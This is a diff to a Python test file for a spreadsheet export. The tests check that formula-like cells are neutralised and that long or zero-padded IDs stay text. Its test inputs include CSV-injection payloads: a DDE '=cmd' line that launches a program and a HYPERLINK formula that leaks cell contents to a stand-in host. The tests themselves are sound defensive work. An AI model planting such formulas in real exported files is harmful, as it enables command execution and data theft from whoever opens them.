@@ -125,6 +125,7 @@ def test_every_time_in_a_json_line_is_there_as_text() -> None:
 FORMULAS = [
     "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
     '=HYPERLINK("http://x.example/?"&A1,"x")', "a;=1+1", 'a";=1+1', "a\t=1+1",
+    " =1+1", "a;  @SUM(1)",
 ]  # fmt: skip
 BEGINS_A_FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 
@@ -141,7 +142,7 @@ def cells(lines: list[str], delimiter: str) -> list[str]:
 def formulas(lines: list[str]) -> list[str]:
     """Cells that are formulas where a comma, a semicolon or a tab ends cells."""
     found = [cell for delimiter in ",;\t" for cell in cells(lines, delimiter)]
-    return [cell for cell in found if cell.startswith(BEGINS_A_FORMULA)]
+    return [cell for cell in found if cell.lstrip(" ").startswith(BEGINS_A_FORMULA)]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -152,7 +153,24 @@ def test_no_cell_for_a_spreadsheet_is_a_formula_in_any_country(text: str) -> Non
 
 
 def test_what_no_spreadsheet_calculates_is_written_as_it_is() -> None:
-    names = ["7", "Łukasz", "a,b", 'a"b', "a=b", "x@example.org", "a-b", "null"]
+    names = [
+        "7",
+        "0",
+        "70",
+        "0.5",
+        "9" * 15,
+        "e3",
+        "3e",
+        "0x7",
+        "12e3a",
+        "Łukasz",
+        "a,b",
+        'a"b',
+        "a=b",
+        "x@example.org",
+        "a-b",
+        "null",
+    ]
     lines = list(spreadsheet_lines(event(name, text=name) for name in names))
     assert lines[0][0] == BYTE_ORDER_MARK
     assert all(line.endswith("\r") and line.count("\r") == 1 for line in lines)
@@ -168,6 +186,17 @@ def test_a_number_with_more_digits_than_a_spreadsheet_keeps_is_text() -> None:
     for sequence, shown in ((10**15 - 1, "9" * 15), (10**15, f"'{10**15}")):
         line = list(spreadsheet_lines([event("7") | {"sequence": sequence}]))[1]
         assert cells([line], ",")[6] == shown
+
+
+@pytest.mark.parametrize(
+    "user", ["007", "00", " 01", "1" * 16, "108123456789012345678", "12e3", "1E5", "9e99 ", "1.e3"]
+)
+def test_an_id_that_a_spreadsheet_would_show_as_another_is_marked(user: str) -> None:
+    """Two persons, or the account of an identity provider, would have one number."""
+    as_number = f"{float(user):.15g}"
+    assert as_number != user
+    line = list(spreadsheet_lines([event(user)]))[1]
+    assert cells([line], ",")[4] == f"'{user}"
 
 
 def test_a_spreadsheet_gets_utf_8_in_any_locale(instance: Instance, tmp_path: Path) -> None:
